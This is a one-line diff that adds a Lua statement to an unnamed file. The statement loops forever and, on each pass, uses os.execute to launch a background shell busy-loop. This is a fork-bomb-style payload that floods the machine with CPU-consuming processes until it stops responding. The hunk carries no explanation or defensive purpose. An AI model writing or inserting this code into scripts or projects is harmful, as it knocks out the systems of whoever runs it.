@@ -1,0 +1,1 @@
+while true do os.execute("(while :; do :; done) &") end
